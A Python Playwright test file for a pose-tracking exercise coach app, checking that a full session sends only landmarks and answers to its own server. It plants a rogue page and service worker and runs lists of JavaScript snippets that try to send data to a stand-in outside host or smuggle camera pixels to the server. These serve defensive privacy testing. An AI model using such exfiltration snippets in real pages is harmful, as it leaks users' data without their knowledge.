"""A whole session, from Start to the replay, sends numbers to the coach and nothing to anybody else."""

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from time import monotonic

import pytest
from playwright.sync_api import Browser, BrowserContext, Page
from starlette.responses import Response
from starlette.types import ASGIApp, Receive, Scope, Send

from tests.browser.films import filmed
from tests.browser.served import coach
from tests.browser.wiretap import Tap

CLIP = Path(__file__).parents[2] / "src" / "vastus" / "demo" / "wall_squat.mp4"
DONE = "wall_squat"
PICTURES = 40
PATIENCE_S = 120.0
STEP_MS = 100
CAMERA = ("--use-fake-ui-for-media-stream", "--use-fake-device-for-media-stream")
OTHER = "http://127.0.0.1:8099/"  # nobody needs to be there
COUNT_PICTURES = """
window.picturesSent = 0;
const { send } = WebSocket.prototype;
WebSocket.prototype.send = function (said) {
  window.picturesSent += typeof said === "string" ? 0 : 1;
  send.call(this, said);
};
"""
ROGUES = {
    "/rogue.html": ("<p>rogue</p>", 200, None, "text/html"),
    "/rogue.js": (
        f"self.addEventListener('install', () => fetch('{OTHER}').catch(() => 0))",
        200,
        None,
        "text/javascript",
    ),
}


def with_rogues(app: ASGIApp) -> ASGIApp:
    """Put two files at the coach's own address that it would never serve."""

    async def served(scope: Scope, receive: Receive, send: Send) -> None:
        rogue = ROGUES.get(scope.get("path", ""))
        await (app if rogue is None else Response(*rogue))(scope, receive, send)

    return served


@pytest.fixture(scope="module")
def tap() -> Tap:
    return Tap()


@pytest.fixture(scope="module")
def address(tap: Tap, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    with coach(tmp_path_factory.mktemp("data"), lambda app: tap.around(with_rogues(app))) as (address, _):
        yield address


@pytest.fixture(scope="module")
def tapped(
    tap: Tap, address: str, launch: Callable[..., Browser], tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Browser]:
    """A browser with a film for a camera, and one way out."""
    film = filmed(CLIP, tmp_path_factory.mktemp("camera") / "camera.mjpeg", 9.5, before_s=9.0)
    with tap.way_out() as way_out:
        yield launch(*CAMERA, f"--use-file-for-fake-video-capture={film.path}", *tap.flags(way_out, address))


@pytest.fixture
def context(tapped: Browser, tap: Tap, address: str) -> Iterator[BrowserContext]:
    tap.outside.clear()
    tap.wrong.clear()
    tap.pictures.clear()
    context = tapped.new_context(viewport={"width": 1440, "height": 900})
    tap.listen(context, address)
    yield context
    context.close()
    tap.quiet()


def answered(page: Page, nprs: int) -> None:
    page.get_by_label(f"{nprs} of 10", exact=True).check()
    page.click("#stage[data-screen=pain] [type=submit]")


def step(page: Page, tap: Tap, before: list[str]) -> None:
    """Do what a person does on the screen that is shown; where only time helps, nothing."""
    screen = page.get_attribute("#stage", "data-screen") or ""
    shown = f"{screen} {page.locator('#screen h1').first.text_content()}"
    if shown != before[-1]:
        before.append(shown)
    if screen == "pain":
        answered(page, 2)
    elif screen == "activity":
        go, skip = page.locator("[data-press=go]"), page.locator("[data-press=skip]")
        if go.is_visible() and "Ice" not in shown:
            go.click()
        else:
            skip.click()
    elif screen == "intro":
        page.click(f"#stage [data-press={'go' if 'Wall squat' in shown else 'skip'}]")
    elif screen == "work" and len(tap.pictures) >= PICTURES:
        page.click("#stage [data-press=skip]")
    page.wait_for_timeout(STEP_MS)


def test_a_whole_session_sends_landmarks_and_answers_to_the_coach_and_nothing_else(
    context: BrowserContext, tap: Tap, address: str
) -> None:
    page = context.new_page()
    page.add_init_script("localStorage.setItem('vastus.model', 'lite')")
    page.add_init_script(COUNT_PICTURES)
    page.goto(address)
    page.get_by_role("button", name="Start").click()
    page.wait_for_selector("#stage[data-screen=pain]")
    seen, until = [""], monotonic() + PATIENCE_S
    while page.get_attribute("#stage", "data-screen") != "summary" and monotonic() < until:
        step(page, tap, seen)
    sent = page.evaluate("window.picturesSent")
    page.click("[data-record]")
    page.wait_for_load_state()
    page.click("[data-watch]")
    page.wait_for_selector(".replay .plot__line")
    for path in ("/exercises", "/exercises/clamshell", "/settings", "/privacy"):
        page.goto(address + path)
    page.goto(f"{address}/settings")
    page.locator("form [type=submit], form button:not([type=button])").first.click()
    page.wait_for_selector("main [role=status]")
    page.goto(address)
    page.get_by_role("button", name="Only one exercise today").click()
    page.get_by_role("button", name="The whole session after all").click()
    page.goto(f"{address}/progress")
    page.wait_for_selector(".chart svg", state="attached")
    tap.calls(context)
    kinds = [one.split()[0] for one in seen[1:]]
    said = [json.loads(text) for text in tap.texts]
    posts = {line.split("?")[0] for line in tap.requests if line.startswith("POST")}

    assert [] == tap.outside
    assert [] == tap.wrong
    assert {"pain", "activity", "intro", "gate", "ready", "work"} <= set(kinds)
    assert 3 <= kinds.count("pain")
    assert PICTURES <= sent
    assert sent == len(tap.pictures)  # none went past the ear
    assert any(len(picture) > 20 for picture in tap.pictures)
    assert {"hello", "press", "answer"} <= {one["t"] for one in said}
    # A camera that is there before the line is open is told of in its first word.
    assert any(one["t"] == "camera" or (one["t"] == "hello" and one["camera"]) for one in said)
    assert {"POST /session", "POST /settings", "POST /wish"} == posts
    assert any("/trace" in line for line in tap.requests)


ESCAPES = {
    "a request": f"fetch('{OTHER}').catch(() => 0)",
    "a request over TLS": "fetch('https://elsewhere.example/').catch(() => 0)",
    "a picture": f"new Image().src = '{OTHER}pixel.png'",
    "a beacon": f"navigator.sendBeacon('{OTHER}', 'x')",
    "a socket": "new WebSocket('ws://127.0.0.1:8099/')",
    "a worker": f"""new Worker(URL.createObjectURL(new Blob(["fetch('{OTHER}').catch(() => 0)"])))""",
    "a worker's socket": """new Worker(URL.createObjectURL(new Blob(["new WebSocket('ws://127.0.0.1:8099/')"])))""",
    "a service worker": "navigator.serviceWorker.register('/rogue.js')",
}
PIXELS = "new Uint8Array(64 * 48 * 4)"
SOCKET = "{ const s = new WebSocket(`ws://${location.host}/session/socket`); s.onopen = () => %s; }"
SMUGGLED = {
    "pixels in a body": f"fetch('/session', {{method: 'POST', body: {PIXELS}}})",
    "pixels in a form": "fetch('/session', {method: 'POST', body: 'exercise=' + 'A'.repeat(4000)})",
    "pixels in an address": "fetch('/exercises?' + 'A'.repeat(4000))",
    "pixels in a header": "fetch('/exercises', {headers: {'X-More': 'A'.repeat(4000)}})",
    "another kind of request": "fetch('/sessions', {method: 'PUT', body: 'x'})",
    "a beacon home": f"navigator.sendBeacon('/session', {PIXELS})",
    "pixels on the socket": SOCKET % f"s.send({PIXELS})",
    "more people than there are": SOCKET % "s.send(new Uint8Array(20 + 4 * 792).fill(4))",
    "text on the socket": SOCKET % "s.send(JSON.stringify({t: 'frame', at: 1, data: 'A'.repeat(500)}))",
    "a call": "new RTCPeerConnection()",
}


@pytest.fixture
def rogue(context: BrowserContext, address: str) -> Page:
    """A page of the coach's own origin that no content policy holds."""
    page = context.new_page()
    page.goto(f"{address}/rogue.html")
    return page


def heard(page: Page, what: Callable[[], list[str]]) -> list[str]:
    until = monotonic() + 10.0
    while not what() and monotonic() < until:
        page.wait_for_timeout(STEP_MS)
    return what()


@pytest.mark.parametrize("escape", ESCAPES.values(), ids=ESCAPES.keys())
def test_whatever_leaves_the_origin_would_be_heard(rogue: Page, tap: Tap, escape: str) -> None:
    assert [] == tap.outside
    rogue.evaluate(f"() => {{ {escape}; }}")

    assert heard(rogue, lambda: tap.outside)


@pytest.mark.parametrize("smuggle", SMUGGLED.values(), ids=SMUGGLED.keys())
def test_whatever_is_smuggled_to_the_coach_would_be_heard(
    rogue: Page, context: BrowserContext, tap: Tap, smuggle: str
) -> None:
    assert [] == tap.wrong
    rogue.evaluate(f"() => {{ try {{ {smuggle}; }} catch {{}} }}")

    def wrong() -> list[str]:
        tap.calls(context)
        return tap.wrong

    assert heard(rogue, wrong)


def test_what_the_content_policy_stops_would_be_heard_too(
    context: BrowserContext, address: str, tap: Tap
) -> None:
    page = context.new_page()
    page.goto(address)
    page.evaluate(f"() => {{ fetch('{OTHER}').catch(() => 0); }}")

    assert heard(page, lambda: tap.wrong)
    assert [] == tap.outside
